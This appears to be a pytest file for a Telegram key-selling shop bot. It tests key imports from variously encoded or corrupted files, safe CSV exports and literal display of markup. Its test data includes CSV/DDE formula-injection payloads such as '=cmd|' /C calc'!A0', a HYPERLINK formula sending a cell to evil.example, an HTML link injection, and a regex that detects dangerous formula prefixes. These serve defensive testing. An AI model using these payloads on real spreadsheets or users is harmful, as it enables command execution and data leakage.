"""Files, names and keys that are not what they seem; each comes through the chat."""

import re
from collections.abc import Callable
from typing import Final

import pytest

from tests import logscan
from tests.chat.shop_chat import ANN
from tests.faults.world import SKU, Stall, handed_over, keys
from tests.unit.keyfiles.uploads import edited, workbook

GOOD: Final = keys(4, "GOOD-KEY")
for _key in GOOD:
    logscan.plant(_key)


async def imported(stall: Stall, name: str, content: bytes, sku: str = SKU) -> str:
    """What the shop says of the file in the end."""
    owner = stall.owner
    await owner.uploads(name, content, caption=f"/import {sku}")
    ends = re.compile("Imported:|file|columns")
    while not ends.search(said := (await owner.reads(""))["text"]) or "Reading" in said:
        pass
    return str(said)


async def on_sale(stall: Stall, sku: str = SKU) -> list[str]:
    """The product's keys, as its buyer gets them: all of them, bought and read."""
    async with stall.app.new_uow() as uow:
        [count] = await uow.stock.counts(sku)
    if not count.available:
        return []
    ordered = await stall.ordered(ANN, count.available, sku)
    attempt = await stall.attempt(ordered)
    assert await stall.paid(ordered, attempt.amount.amount) == stall.service.accepted
    await stall.ann.reads("🔑", ever=True)
    return [key for sent in handed_over(stall.shop) for key in sent.keys]


A, B, C, D = (key.encode() for key in GOOD)
READABLE: Final = {
    "utf-16 with its mark": "\r\n".join(GOOD).encode("utf-16"),
    "utf-16 without": "\n".join(GOOD).encode("utf-16-le"),
    "utf-8 with its mark": b"\xef\xbb\xbf" + b"\n".join([A, B, C, D]),
    "every line end": b"%s\r\n%s\r%s\n\r\n\n%s" % (A, B, C, D),
}


@pytest.mark.parametrize("how", READABLE)
async def test_f64_however_a_file_is_written_its_keys_are_read(
    plain_stall: Stall, how: str
) -> None:
    await plain_stall.stocked()
    report = await imported(plain_stall, "keys.txt", READABLE[how])
    assert "Imported: 4" in report
    assert "Invalid: 0" in report
    assert await on_sale(plain_stall) == GOOD


SPOILT: Final = {
    "a NUL": b"NUL\x00KEY",
    "broken UTF-8": b"BROKEN-\xff\xfe-KEY",
    "a control character": b"ESCAPE-\x1b[2J-KEY",
    "endless": b"x" * 70_000,
}


@pytest.mark.parametrize("how", SPOILT)
async def test_f64_lines_that_are_no_keys_are_told_by_their_number(
    plain_stall: Stall, how: str
) -> None:
    await plain_stall.stocked()
    lines = [A, SPOILT[how], B, b"", SPOILT[how], C]
    report = await imported(plain_stall, "keys.txt", b"\n".join(lines))
    assert "Imported: 3" in report
    assert "Invalid: 2 (lines 2, 5)" in report
    assert await on_sale(plain_stall) == GOOD[:3]


def _cut(book: bytes) -> bytes:
    return book[: len(book) // 2]


def _torn(book: bytes) -> bytes:
    """Every row is there, and then the sheet ends in the middle of a word."""
    return edited(book, "xl/worksheets/sheet1.xml", lambda xml: xml.partition(b"</sheetData>")[0])


UNREADABLE: Final[dict[str, tuple[str, Callable[[bytes], bytes]]]] = {
    "a picture": ("keys.txt", lambda _: b"\x89PNG\r\n\x1a\n" + b"\n".join([A, B])),
    "an old workbook": ("keys.csv", lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\n" + A),
    "half a workbook": ("keys.xlsx", _cut),
    "a torn sheet": ("keys.xlsx", _torn),
    "text as a workbook": ("keys.xlsx", lambda _: b"\n".join([A, B])),
    "nothing": ("keys.txt", lambda _: b"\xef\xbb\xbf\r\n \r\n"),
}


@pytest.mark.parametrize("what", UNREADABLE)
async def test_f64_a_file_that_cannot_be_read_adds_nothing(plain_stall: Stall, what: str) -> None:
    await plain_stall.stocked()
    name, spoil = UNREADABLE[what]
    report = await imported(plain_stall, name, spoil(workbook(*([key] for key in GOOD))))
    assert "Imported" not in report
    assert await on_sale(plain_stall) == []


@pytest.mark.parametrize("dimension", [b"A1", b"A1:A2", b"A1:XFD1048576"])
async def test_f65_all_rows_count_whatever_the_sheet_says_of_its_size(
    plain_stall: Stall, dimension: bytes
) -> None:
    await plain_stall.stocked()
    many = keys(300)
    tag = re.compile(rb'<dimension ref="[^"]*"')
    book = edited(
        workbook(*([key] for key in many)),
        "xl/worksheets/sheet1.xml",
        lambda xml: tag.sub(b'<dimension ref="%s"' % dimension, xml),
    )
    assert "Imported: 300" in await imported(plain_stall, "keys.xlsx", book)


FORMULAS: Final = [
    "=cmd|' /C calc'!A0",
    "+1-800-KEYS-NOW",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    '=HYPERLINK("https://evil.example?"&A1;"x")',
    "＝1+1-FULL-WIDTH",
    "a,b\"c;d'e-KEY",
]
_DANGEROUS: Final = re.compile(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠\t\r]")


async def test_f66_exports_hold_no_formula(plain_stall: Stall) -> None:
    """Opened again by a reader of CSV: each cell is what was put in, and none is worked out."""
    stall = plain_stall
    await stall.stocked(*FORMULAS, name="=1+cmd|' /C calc'!A0")
    await stall.paid(await stall.ordered(ANN))
    await stall.keys_read_by(ANN)
    sold_keys = await stall.exported("keys")
    orders = await stall.exported("orders")
    for row in [*sold_keys, *orders]:
        assert not [cell for cell in row if _DANGEROUS.match(cell)]
    assert sorted(cell.removeprefix("'") for _, cell, *_ in sold_keys[1:]) == sorted(FORMULAS)
    assert orders[1][orders[0].index("title")] == "'=1+cmd|' /C calc'!A0"


NAME: Final = '<b>Tom</b> & "Jerry\'s" <game> 😀 &amp; {x} %s'
TYPED: Final = [
    "<b>BOLD-KEY</b>",
    "A&B&amp;C-KEY",
    "\"quoted\"-'KEY'",
    "😀🗝-EMOJI-KEY",
    "</code><a href='https://evil.example'>x</a>",
    "{order}%(key)s\\n-KEY",
    "密钥-КЛЮЧ-ÄÖ-KEY",
    "*_`[markdown](KEY)`_*",
]


async def test_f67_signs_are_shown_as_they_were_typed(stall_on_both: Stall) -> None:
    stall, ann, owner = stall_on_both, stall_on_both.ann, stall_on_both.owner
    await stall.stocked(*TYPED, name=NAME)
    await owner.says(f"/setproduct {SKU} description {NAME}\nand </b> more")
    assert NAME in (await owner.reads("Changed"))["text"]
    await ann.says(f"/start p_{SKU}")
    card = (await ann.reads("In stock"))["text"]
    assert card.startswith(f"{NAME}\n\n{NAME}\nand </b> more")
    await ann.presses("Buy")
    assert f"{NAME} × 1" in (await ann.reads("Your order"))["text"]
    ordered = await stall.ordered(ANN, quantity=len(TYPED))
    assert f"{NAME} × 8" in (await ann.reads("Held for you"))["text"]
    assert await stall.paid(ordered, 499 * len(TYPED)) == stall.service.accepted
    message = await ann.reads("🔑", ever=True)
    assert NAME in message["text"]
    assert await ann.codes() == TYPED
    assert {entity["type"] for entity in message["entities"]} == {"bold", "code"}
    await owner.says("/stock")
    assert NAME in (await owner.reads("sold"))["text"]
    await owner.says(f"/order {ordered.number}")
    assert NAME in (await owner.reads("Placed:"))["text"]


# What Telegram would change in a message: it makes blanks of control characters, and drops marks.
CHANGED: Final = {"a tab": "TAB\tIN-A-KEY", "marks": "MARK-\u202a\u202e-IN-A-KEY"}


@pytest.mark.parametrize("what", CHANGED)
async def test_f67_a_key_that_a_message_would_change_arrives_intact(
    plain_stall: Stall, what: str
) -> None:
    await plain_stall.stocked()
    logscan.plant(CHANGED[what])
    assert "Imported: 1" in await imported(plain_stall, "keys.txt", CHANGED[what].encode())
    assert await on_sale(plain_stall) == [CHANGED[what]]
